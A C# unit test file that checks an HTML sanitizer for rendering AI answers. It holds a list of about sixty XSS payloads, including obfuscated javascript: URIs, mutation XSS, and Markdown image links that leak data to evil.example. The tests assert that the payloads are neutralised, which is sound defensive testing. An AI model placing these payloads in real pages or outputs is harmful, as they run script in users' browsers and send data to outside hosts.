using IAToolkit.Answers;

namespace IAToolkit.Core.Tests.Answers;

/// <summary>Attacks a model could be talked into writing (OWASP cheat sheet, mutation XSS, Markdown links): none survives.</summary>
[Category("Security")]
public sealed class AnswerRendererXssTests
{
    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<script>alert(1)",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\"",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "<a href=\"&#0000106avascript:alert(1)\">x</a>",
        "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"javascript:alert(1)\"",
        "<a href=\"#\" onclick=\"alert(1)\">x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><input type=submit><button formaction=\"javascript:alert(1)\">x</button></form>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">fake login</div>",
        "<style>@import 'https://evil.example/x.css'; body{background:red}</style>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<p onmouseover=alert(1)>x</p>",
        "<x onclick=alert(1)>x</x>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<select><style></select><img src=x onerror=alert(1)>",
        "<template><script>alert(1)</script></template>",
        "<!--<script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
        "<table><td background=\"javascript:alert(1)\">x</td></table>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<div id=\"login\" name=\"form\" data-x=\"1\">clobber</div>",
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](  javascript:alert(1) )",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/leak?data=secret)",
        "[x][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "- [ ] <img src=x onerror=alert(1)>",
        "| a |\n|---|\n| <script>alert(1)</script> |",
    ];

    private static readonly AnswerRenderer Renderer = TestRenderers.Create();

    [TestCaseSource(nameof(Payloads))]
    public void ToSafeHtml_Attack_LeavesNothingThatRuns(string payload)
    {
        var html = Renderer.ToSafeHtml(payload);

        Assert.That(InertHtml.Problems(html), Is.Empty, html);
        Assert.That(html, Does.Not.Contain("<script").IgnoreCase.And.Not.Match(@"(?i)<[a-z][^>]*\son[a-z]+\s*="));
    }

    [Test]
    public void ToSafeHtml_MarkdownLinkToJavascript_KeepsTheTextWithoutTheLink()
    {
        Assert.That(Renderer.ToSafeHtml("[pulse aquí](javascript:alert(1))"), Is.EqualTo("<p><a>pulse aquí</a></p>"));
    }

    [Test]
    public void ToSafeHtml_ScriptBetweenParagraphs_DropsTheScriptAndItsCode()
    {
        var html = Renderer.ToSafeHtml("<p>antes</p><script>alert('robo')</script><p>después</p>");

        Assert.That(html, Is.EqualTo("<p>antes</p><p>después</p>"));
    }

    [Test]
    public void ToSafeHtml_UnknownTagWithHandler_KeepsOnlyItsText()
    {
        Assert.That(Renderer.ToSafeHtml("<blink onclick=alert(1)>hola <b>mundo</b></blink>"), Is.EqualTo("<p>hola <b>mundo</b></p>"));
    }

    [Test]
    public void ToSafeHtml_ImageFromAnUnlistedHost_BecomesALinkThatDoesNotLoadByItself()
    {
        var html = Renderer.ToSafeHtml("![ventas](https://evil.example/leak?total=123)");

        Assert.That(html, Is.EqualTo("<p><a href=\"https://evil.example/leak?total=123\" target=\"_blank\" rel=\"noopener noreferrer\">ventas</a></p>"));
    }

    [Test]
    public void ToSafeHtml_ClassesThatCouldCoverThePage_AreDropped()
    {
        var html = Renderer.ToSafeHtml("<div class=\"position-fixed top-0 start-0 vh-100 modal iat-notice alert alert-info x\\\"y\">Sesión expirada</div>");

        Assert.That(html, Is.EqualTo("<div class=\"alert alert-info\">Sesión expirada</div>"));
    }

    [Test]
    public void ToSafeHtml_ScriptRemoved_LogsAWarningWithoutTheAnswer()
    {
        var logs = new Mail.CapturingLoggerProvider();
        var renderer = TestRenderers.Create(logs);

        renderer.ToSafeHtml("secreto <img src=x onerror=alert(1)>");

        var entry = logs.Entries.Single(e => e.EventId == 1501);
        Assert.That(entry.Level, Is.EqualTo(Microsoft.Extensions.Logging.LogLevel.Warning));
        Assert.That(entry.Message, Does.Contain("img onerror").And.Not.Contain("secreto"));
    }
}
